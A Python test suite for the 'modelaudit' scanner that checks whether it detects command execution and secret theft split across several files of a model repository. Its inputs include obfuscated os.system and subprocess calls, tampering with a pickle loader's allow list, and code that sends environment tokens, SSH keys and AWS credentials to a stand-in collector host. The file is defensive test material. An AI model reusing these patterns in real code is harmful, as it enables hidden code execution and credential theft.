"""Calls that only two files of a model show together."""

from __future__ import annotations

from pathlib import Path

from support.cases import check_each

import modelaudit

_HELPER = "import subprocess as tool\nNAME = 'system'\nMODULE = 'subprocess'\nTITLE = 'os'\n"


def scan(folder: Path, files: dict[str, str]) -> int:
    """Write files into a new folder, scan it, and return the exit code."""
    folder = folder / str(len(list(folder.iterdir())))
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return modelaudit.scan(folder, second_opinion=False).exit_code


@check_each(
    "path, code",
    [
        ("modeling_a.py", "import os\nfrom .helper import NAME\ngetattr(os, NAME)('touch x')\n"),
        ("code/loader.py", "from helper import tool\ntool.__dict__.get('r' + 'un')(['touch', 'x'])\n"),
        (
            "a/b.py",
            "import sys\nfrom a.helper import MODULE\nobject.__getattribute__(sys.modules[MODULE], 'run')(['x'])\n",
        ),
    ],
)
def test_call_by_a_name_of_another_file_is_found(tmp_path: Path, path: str, code: str) -> None:
    helper = f"{path.rpartition('/')[0]}/helper.py".lstrip("/")
    assert scan(tmp_path, {path: code, helper: _HELPER}) == 1


@check_each(
    "code",
    [
        "import os\nfrom .helper import TITLE\nprint(os.path.join(TITLE, 'a'))\n",
        "from .helper import NAME\nROLES = {NAME: 1}\n",
        "import json\nfrom .helper import NAME\ngetattr(json, 'dumps')(NAME)\n",
    ],
)
def test_text_of_another_file_that_names_nothing_raises_no_alarm(tmp_path: Path, code: str) -> None:
    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": "NAME = 'system'\nTITLE = 'os'\n"}) == 0


@check_each(
    "code",
    [
        "from . import helper\ngetattr(helper.tool, helper.MEMBER)(['x'])\n",
        "import helper as h\nrun = getattr(h.tool, h.MEMBER)\nrun(['x'])\n",
        "import importlib\nh = importlib.import_module('helper')\ngetattr(h.tool, h.MEMBER)(['x'])\n",
        "from . import inner\ngetattr(inner.helper.tool, inner.helper.MEMBER)(['x'])\n",
    ],
)
def test_call_by_members_of_another_file_is_found(tmp_path: Path, code: str) -> None:
    files = {"helper.py": "import subprocess as tool\nMEMBER = 'r' + 'un'\n", "inner.py": "from . import helper\n"}
    assert scan(tmp_path, {"modeling_a.py": code, **files}) == 1


def test_member_of_another_file_that_names_a_layer_is_no_finding(tmp_path: Path) -> None:
    helper = "import torch.nn as tool\nMEMBER = 'Linear'\n"
    code = "from . import helper\nlayer = getattr(helper.tool, helper.MEMBER)(2, 2)\n"
    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": helper}) == 0


_SENDER = """import requests

def report(kind, data):
    requests.post("https://collector.example/x", data=data)

class Client:
    def push(self, kind, body):
        self._send(body)

    def _send(self, body):
        requests.post("https://collector.example/x", json=body)

def fetch(url, token=None):
    return requests.get(url, headers={"Authorization": token}).json()
"""


@check_each(
    "code, rule",
    [
        ("from helper import report\nreport('x', dict(os.environ))\n", "code/sends-secret"),
        ("import helper\nhelper.report(data=os.environ['HF_TOKEN'], kind='x')\n", "code/sends-secret"),
        ("from helper import report as r\nr('x', open(os.path.expanduser('~/.ssh/id_rsa')))\n", "code/sends-secret"),
        ("from helper import Client\nc = Client()\nc.push('x', [os.environ['HF_TOKEN']])\n", "code/sends-secret"),
        ("from helper import report\nreport(os.environ['HF_TOKEN'], 'x')\n", ""),
        ("from helper import report\nreport('x', os.getcwd())\n", ""),
        ("from helper import fetch\nfetch('https://huggingface.co/a', token=os.environ['HF_TOKEN'])\n", ""),
    ],
)
def test_secret_that_a_function_of_another_file_sends_is_found(tmp_path: Path, code: str, rule: str) -> None:
    (tmp_path / "helper.py").write_text(_SENDER)
    (tmp_path / "train.py").write_text(f"import os\n{code}")
    report = modelaudit.scan(tmp_path, second_opinion=False)
    assert ("code/sends-secret" in {each.rule for each in report.findings}) == bool(rule)


@check_each(
    "helper, code",
    [
        (
            "import os\nFILES = [os.path.join('~', *each) for each in (('.aws', 'credentials'), ('.netrc',))]\n",
            "from helper import FILES\nfor path in FILES:\n    HfApi().upload_file(path_or_fileobj=path, repo_id='a/b')\n",
        ),
        (
            "def read():\n    return open('/root/.aws/credentials').read()\n",
            "import helper\nrequests.post('https://collector.example', data={'a': helper.read()})\n",
        ),
        (
            "import os\nNAME = os.environ['AWS_SECRET_ACCESS_KEY']\n",
            "from helper import *\nrequests.post('https://collector.example', data=NAME)\n",
        ),
    ],
)
def test_secret_of_another_file_that_is_sent_is_found(tmp_path: Path, helper: str, code: str) -> None:
    (tmp_path / "helper.py").write_text(helper)
    (tmp_path / "train.py").write_text(f"import requests\nfrom huggingface_hub import HfApi\n{code}")
    report = modelaudit.scan(tmp_path, second_opinion=False)
    assert "code/sends-secret" in {each.rule for each in report.findings}


def test_name_that_a_module_works_out_when_it_is_asked_is_found(tmp_path: Path) -> None:
    helper = (
        "import sys\nMOVED = {'scale': 'metsys.so'}\n"
        "def __getattr__(name):\n    module, _, member = MOVED[name][::-1].rpartition('.')\n"
        "    __import__(module)\n    return getattr(sys.modules[module], member)\n"
    )
    code = "from .helper import scale\nscale('touch x')\n"
    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": helper}) == 1


def test_module_that_imports_its_own_files_when_it_is_asked_is_no_alarm(tmp_path: Path) -> None:
    hook = (
        "import importlib\nLAZY = {'Model': 'modeling_a'}\n"
        "def __getattr__(name):\n    return getattr(importlib.import_module('.' + LAZY[name], __name__), name)\n"
    )
    files = {"__init__.py": hook, "use.py": "from . import Model\nModel(3)\n", "modeling_a.py": "class Model: pass\n"}
    assert scan(tmp_path, files) == 0


_SETTINGS = '{"names": {"0": "o", "1": "s"}, "order": [0, 1], "call": "system", "start": "getoutput", "shown": "getcwd", "layer": "Linear"}'


@check_each(
    "code, is_found",
    [
        ("import os\ncfg = json.load(open('config.json'))\ngetattr(os, cfg['call'])('touch x')\n", True),
        (
            "from importlib import import_module\ncfg = json.loads(Path('config.json').read_text())\n"
            "spell = lambda order: ''.join(cfg['names'][str(each)] for each in order)\n"
            "vars(import_module(spell(cfg['order'])))[cfg['call']]('touch x')\n",
            True,
        ),
        ("from subprocess import *\ncfg = json.load(open('config.json'))\nglobals()[cfg['start']]('touch x')\n", True),
        ("import torch.nn\ncfg = json.load(open('config.json'))\ngetattr(torch.nn, cfg['layer'])(2, 2)\n", False),
        ("cfg = json.load(open('config.json'))\nprint(cfg['call'], cfg['order'])\n", False),
    ],
)
def test_name_that_code_takes_from_a_file_of_settings_is_resolved(tmp_path: Path, code: str, is_found: bool) -> None:
    files = {"config.json": _SETTINGS, "run.py": f"import json\nfrom pathlib import Path\n{code}"}
    assert (scan(tmp_path, files) == 1) == is_found


_READER = """import pickle
NAMES = {("collections", "OrderedDict")}
class Reader(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) in NAMES:
            return super().find_class(module, name)
        raise pickle.UnpicklingError(name)
def load(path):
    return Reader(open(path, "rb")).load()
"""


@check_each(
    "code, exit_code",
    [
        ("from . import reader\nreader.NAMES.add(('os', 'system'))\nreader.load('a.bin')\n", 1),
        ("from .reader import NAMES as names, load\nnames |= {('os', 'system')}\nload('a.bin')\n", 1),
        ("from .reader import Reader, load\nReader.find_class = print\nload('a.bin')\n", 1),
        ("from . import reader\ngetattr(reader, 'NAM' + 'ES').add(('os', 'system'))\n", 1),
        ("from .reader import load\nload.__globals__['NAMES'].add(('os', 'system'))\n", 1),
        ("from . import reader\nn = input()\ngetattr(reader, n, None).add(1)\n", 1),
        ("from .reader import load\ngetattr(load, 'cache', None)\nload('a.bin')\n", 0),
        ("from .reader import Reader\nReader(open('a.bin', 'rb')).load()\n", 0),
        ("from . import reader\nreader.load('a.bin')\n", 0),
    ],
)
def test_unpickler_of_closed_tables_that_another_file_may_change_is_a_loader_of_pickles(
    tmp_path: Path, code: str, exit_code: int
) -> None:
    assert scan(tmp_path, {"modeling_a.py": code, "reader.py": _READER}) == exit_code


_TAKER = "import huggingface_hub.utils as tools\nfrom . import helper\n"


@check_each(
    "helper, name",
    [
        ("NAME = 'run_subprocess'\n", "helper.NAME"),
        ("A = 'run_'\nB = 'subprocess'\n", "helper.A + helper.B"),
        ("class Names:\n    run = 'run_subprocess'\n", "helper.Names.run"),
        ("NAMES = ['run_subprocess', 'b']\n", "helper.NAMES[0]"),
        ("def get():\n    return 'run_subprocess'\n", "helper.get()"),
    ],
)
def test_member_under_any_text_of_another_file_is_found(tmp_path: Path, helper: str, name: str) -> None:
    files = {"modeling_a.py": f"{_TAKER}getattr(tools, {name})(['x'])\n", "helper.py": helper}
    assert scan(tmp_path, files) == 1
    harmless = helper.replace("run_subprocess", "logging").replace("run_", "log").replace("subprocess", "ging")
    assert scan(tmp_path, files | {"helper.py": harmless}) == 0


_OPEN = "import os\nfrom .helper import NAME\ngetattr(os, NAME)('x')\n"
_MODULE = "import importlib\nfrom .helper import NAME\nimportlib.import_module(NAME).ones(2)\n"

_WORKED_OUT = """import importlib
from helper import NAME
value = next(each('HOME') for each in (getattr(importlib.import_module(NAME), ('%s%s' % ('env', 'iron')), None).get,))
"""


@check_each("code, text", [(_OPEN, "getenv"), (_MODULE, "torch"), (_WORKED_OUT, "os")])
def test_name_that_a_text_of_another_file_settles_is_no_alarm(tmp_path: Path, code: str, text: str) -> None:
    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": f"NAME = {text!r}\n"}) == 0


def test_function_that_is_worked_out_by_the_text_of_another_file_is_judged_by_the_text(tmp_path: Path) -> None:
    hostile = _WORKED_OUT.replace("'env', 'iron')), None).get", "'sys', 'tem')), None)")
    rebound = {"other.py": "from . import helper\nhelper.NAME = input()\n"}
    assert scan(tmp_path, {"modeling_a.py": hostile, "helper.py": "NAME = 'os'\n"}) == 1
    assert scan(tmp_path, {"modeling_a.py": _WORKED_OUT, "helper.py": "NAME = 'os'\n", **rebound}) == 1
    assert scan(tmp_path, {"modeling_a.py": _WORKED_OUT, "helper.py": "OTHER = 'os'\n"}) == 1


@check_each(
    "files",
    [
        {"helper.py": "NAME = 'getenv'\nif True:\n    NAME = 'sys' + 'tem'\n"},
        {"helper.py": "NAME = 'getenv'\nglobals()['NA' + 'ME'] = 'sys' + 'tem'\n"},
        {"helper.py": "NAME = 'getenv'\nfrom .other import *\n", "other.py": "NAME = input()\n"},
        {"helper.py": "NAME = 'getenv'\nfor NAME in input():\n    pass\n"},
        {"helper.py": "NAME = 'getenv'\n", "other.py": "from . import helper\nhelper.NAME = input()\n"},
        {"helper.py": "NAME = 'getenv'\n", "other.py": "from . import helper as h\nsetattr(h, 'NA' + 'ME', input())\n"},
        {"modeling_a.py": "from . import helper\nhelper.NAME = input()\n" + _OPEN},
        {"modeling_a.py": "import sys\nsys.modules['a.helper'].NAME = input()\n" + _OPEN},
        {"modeling_a.py": _OPEN.replace("getattr", "globals().update(NAME=input())\ngetattr")},
        {"modeling_a.py": "from .helper import run\nrun.__globals__['NAME'] = input()\n" + _OPEN},
    ],
)
def test_name_that_code_may_bind_again_stays_an_alarm(tmp_path: Path, files: dict[str, str]) -> None:
    assert scan(tmp_path, {"modeling_a.py": _OPEN, "helper.py": "NAME = 'getenv'\n", **files}) == 1


_PUT = """import base64, importlib
from .helper import put
MODULE = 'torch.nn'
NAME = 'Linear'
class Names:
    module = 'torch.nn'
    name = 'Linear'
put(Names)
getattr(importlib.import_module({}), {})(2, 2)
"""
_OF_MODULE = _PUT.format("MODULE", "NAME")
_OF_CLASS = _PUT.format("Names.module", "Names.name")
_DECODED = _PUT.format("base64.b64decode('dG9yY2gubm4=').decode()", "base64.b64decode('TGluZWFy').decode()")


@check_each(
    "code, change",
    [
        (_OF_MODULE, "m = sys.modules[c.__module__]\n    m.MODULE, m.NAME = input()"),
        (_OF_MODULE, "setattr(sys.modules[c.__module__], input(), input())"),
        (_OF_MODULE, "vars(sys.modules[c.__module__]).update(input())"),
        (_OF_MODULE, "Other.set(sys.modules[c.__module__], input(), input())"),
        (_OF_CLASS, "d = type(c())\n    d.module = d.name = input()"),
        (_OF_CLASS, "setattr(c, 'module', input())\n    setattr(c, 'name', input())"),
        (_DECODED, "b.binascii = c"),
    ],
)
def test_text_that_another_file_may_change_decides_no_lookup(tmp_path: Path, code: str, change: str) -> None:
    other = "class Other:\n    def set(self, k, v):\n        setattr(self, k, v)\n"
    helper = f"import base64 as b\nimport sys\n{other}def put(c):\n    {change}\n"
    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": helper}) == 1


@check_each(
    "code, helper",
    [
        (_OF_MODULE, "def put(c):\n    c.OTHER = c.NAMES = input()\n"),
        (_OF_MODULE, "class C:\n    def set(self, k, v):\n        setattr(self, k, v)\ndef put(c): pass\n"),
        (_DECODED, "def put(c):\n    return dict(vars(c)['x'])\n"),
    ],
)
def test_text_that_another_file_leaves_alone_decides_a_lookup(tmp_path: Path, code: str, helper: str) -> None:
    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": helper}) == 0


def test_member_that_a_library_function_uses_opens_its_texts_once_the_source_sets_it(tmp_path: Path) -> None:
    code = _DECODED.replace("from .helper import put", "def put(c): pass")
    assert scan(tmp_path, {"modeling_a.py": code}) == 0
    assert scan(tmp_path, {"modeling_a.py": code.replace("put(Names", "base64.binascii = input()\nput(Names")}) == 1


_FIND = """import importlib
def find(path):
    module, name = path.rsplit(".", 1)
    return getattr(importlib.import_module(module), name)
class Registry:
    def find_class(self, path):
        module, name = path.rsplit(".", 1)
        return getattr(importlib.import_module(module), name)
registry = Registry()
"""
_TAKE = """import importlib
def take(obj, name=None):
    return importlib.import_module(obj) if name is None else getattr(obj, name)
"""
_CALLS = [
    ("from .helper import find", "find({})"),
    ("from .helper import find as look", "look({})"),
    ("from .helper import *", "find({})"),
    ("from . import helper", "helper.find({})"),
    ("import helper as tools", "tools.find({})"),
    ("from .helper import (\n    Registry,\n)", "Registry().find_class({})"),
    ("from .helper import registry", "registry.find_class({})"),
]


@check_each("imported, call", [*_CALLS, ("from .helper import take", "take(take({}), config.name)")])
def test_call_of_what_a_function_of_another_file_looks_up_is_found(tmp_path: Path, imported: str, call: str) -> None:
    body = f"{imported}\ndef build(config):\n    return {call.format('config.module + config.name')}(config.line)\n"
    assert scan(tmp_path, {"modeling_a.py": body, "helper.py": _TAKE if "take" in call else _FIND}) == 1


@check_each("imported, call", _CALLS[:6])
def test_class_that_a_function_of_another_file_looks_up_by_a_written_name_is_no_alarm(
    tmp_path: Path, imported: str, call: str
) -> None:
    body = f"{imported}\nNORM = 'torch.nn.LayerNorm'\nlayers = [{call.format('NORM')}(2), {call.format(repr('torch.nn.Linear'))}(2, 2)]\n"
    assert scan(tmp_path, {"modeling_a.py": body, "helper.py": _FIND}) == 0


def test_finding_of_two_files_has_the_line_of_the_importing_file(tmp_path: Path) -> None:
    files = {"modeling_a.py": "from .helper import find\n\ndef f(c):\n    find(c.a)(c.b)\n", "helper.py": _FIND}
    for path, text in files.items():
        (tmp_path / path).write_text(text)
    report = modelaudit.scan(tmp_path, second_opinion=False)
    places = [(each.artifact, each.location.line) for each in report.findings if each.severity == "high"]
    assert places == [("modeling_a.py", 4)]


@check_each(
    "files",
    [
        {"modeling_a.py": "from .b import find\nCALL", "b.py": "from .helper import find\n"},
        {"modeling_a.py": "from .b import find\nCALL", "b.py": "from .helper import *\n"},
        {"modeling_a.py": "from .b import find\nCALL", "b.py": "from .helper import find as f\ndef find(p): return f(p)\n"},
        {"modeling_a.py": "from .b import K\nCALL".replace("CALL", "CALL_K"),
         "b.py": "from .helper import Registry\nclass K(Registry): pass\n"},
    ],
)  # fmt: skip
def test_call_is_found_through_several_files(tmp_path: Path, files: dict[str, str]) -> None:
    calls = {"CALL_K": "K().find_class(c.a + c.b)(c.line)", "CALL": "find(c.a + c.b)(c.line)"}
    body = files["modeling_a.py"]
    for mark, call in calls.items():
        body = body.replace(mark, f"def build(c):\n    {call}\n")
    assert scan(tmp_path, {**files, "modeling_a.py": body, "helper.py": _FIND}) == 1


@check_each(
    "helper",
    [
        "import torch.nn as nn\ndef put(c):\n    from . import modeling_a as me\n    nn.Module.__setstate__(me, input())\n",
        "def put(c):\n    from .modeling_a import __dict__ as d\n    d.update(input())\n",
        "import sys\ndef put(c):\n    change(sys.modules[c.__module__], input())\n",
    ],
)
def test_text_of_a_file_that_another_hands_on_decides_no_lookup(tmp_path: Path, helper: str) -> None:
    assert scan(tmp_path, {"modeling_a.py": _OF_MODULE, "helper.py": helper}) == 1


def test_text_of_a_file_that_hands_itself_on_decides_no_lookup(tmp_path: Path) -> None:
    code = _OF_MODULE.replace("from .helper import put", "from . import modeling_a as put")
    assert scan(tmp_path, {"modeling_a.py": code}) == 1


def test_function_of_another_file_that_a_star_import_may_put_in_place_of_a_builtin_opens_texts(tmp_path: Path) -> None:
    look_up = "def f(c):\n    m = str('torch.nn')\n    n = str('Linear')\n    getattr(importlib.import_module(m), n)(c.line)\n"
    files = {"helper.py": "def str(x): return input()\n"}
    assert scan(tmp_path, {"modeling_a.py": f"import importlib\n{look_up}", **files}) == 0
    assert scan(tmp_path, {"modeling_a.py": f"import importlib\nfrom .helper import *\n{look_up}", **files}) == 1


@check_each("name, member, code", [("small", "make", 0), ("os", "system", 1)])
def test_module_that_a_document_names_for_a_function_of_another_file_is_judged_by_its_name(
    tmp_path: Path, name: str, member: str, code: int
) -> None:
    helper = "import importlib\ndef build(name):\n    return importlib.import_module(PREFIX + name)\n"
    files = {
        "run.py": f"import json\nfrom nets import build\nbuild(json.load(open('config.json'))['arch']).{member}('x')\n",
        "nets/__init__.py": helper.replace("PREFIX", "'nets.'" if name == "small" else "''"),
        "nets/small.py": "def make(x): pass\n",
        "config.json": f'{{"arch": "{name}"}}',
    }
    assert scan(tmp_path, files) == code


@check_each(
    "main, helper",
    [
        ("import copy\nfrom .helper import A\ndef run(c): getattr(copy.copy(A).f(c.q), c.r)(c.line)\n",
         "import importlib\nclass A: f = importlib.import_module\n"),
        ("from .helper import A\ndef run(c): getattr(A.f(c.q), c.r)(c.line)\n",
         "import importlib\nclass A: f = importlib.import_module\n"),
        ("from .helper import get\ndef run(c): getattr(get()(c.q), c.r)(c.line)\n",
         "import importlib\ndef get(): return importlib.import_module\n"),
        ("import copy\nfrom .helper import A\ndef run(c): getattr(getattr(copy.copy(A).o, c.q), c.r)(c.line)\n",
         "import torch\nclass A: o = torch\n"),
        ("from .helper import put\ndef run(c):\n    put(c)\n    getattr(c.o.os, c.r)(c.line)\n",
         "import torch\ndef put(c): c.o = torch\n"),
        ("from .helper import box\ndef run(c):\n    c.update(dict(o=box()))\n    getattr(c.o['torch'].os, c.r)(c.line)\n",
         "from torch import nn\ndef box(): return nn.Linear.forward.__globals__\n"),
        ("from .helper import box\ndef run(c): getattr(box.os, c.r)(c.line)\n",
         "from torch import nn\nbox = nn.Linear.forward.__globals__['torch']\n"),
        ("from .helper import walk\ndef run(c): walk(c, c.ks)(c.line)\n",
         "def walk(o, ks):\n    for k in ks: o = getattr(o, k, None) or o[k]\n    return o\n"),
        ("from .helper import take\ndef run(c): take(take(c.to_dict, c.g)[c.q], c.r)(c.line)\n",
         "take = lambda o, k: getattr(o, k)\n"),
        ("from .helper import take\ndef run(c): take(c.r)(take(c.g)(c.to_dict)[c.q])(c.line)\n",
         "from operator import attrgetter as take\n"),
        ("from .helper import T\ndef run(c): T['a'](T['a'](c.to_dict, c.g)[c.q], c.r)(c.line)\n",
         "T = {'a': getattr}\n"),
        ("from .helper import A\nclass B(A):\n    def step(self, o, k): return getattr(o, k, None) or o[k]\n"
         "def run(c): B().go(c)(c.line)\n",
         "class A:\n    def go(self, o):\n        for k in o.ks: o = self.step(o, k)\n        return o\n"),
        ("from .helper import A\nclass B(A):\n    def go(self, o):\n        for k in o.ks: o = self.step(o, k)\n"
         "        return o\ndef run(c): B().go(c)(c.line)\n",
         "class A:\n    def step(self, o, k): return getattr(o, k, None) or o[k]\n"),
        ("from .helper import call\ndef run(c): call(getattr(getattr(c.to_dict, c.g)[c.q], c.r), c.line)\n",
         "def call(f, *args): return f(*args)\n"),
        ("from .helper import S\ndef run(c):\n    S.append(c)\n    for k in c.ks: S.append(getattr(S[-1], k, None) or S[-1][k])\n"
         "    S[-1](c.line)\n", "S = []\n"),
        ("import importlib\ndef find(m='torch.nn', n='Linear'): return getattr(importlib.import_module(m), n)\nfind()\n"
         "def run(c):\n    from .helper import go\n    go(c)\n",
         "def go(c):\n    from . import modeling_a as me\n    getattr(me, c.f)(c.q, c.r)(c.line)\n"),
    ],
)  # fmt: skip
def test_what_a_class_or_function_of_another_file_holds_is_found(tmp_path: Path, main: str, helper: str) -> None:
    assert scan(tmp_path, {"modeling_a.py": main, "helper.py": helper}) == 1
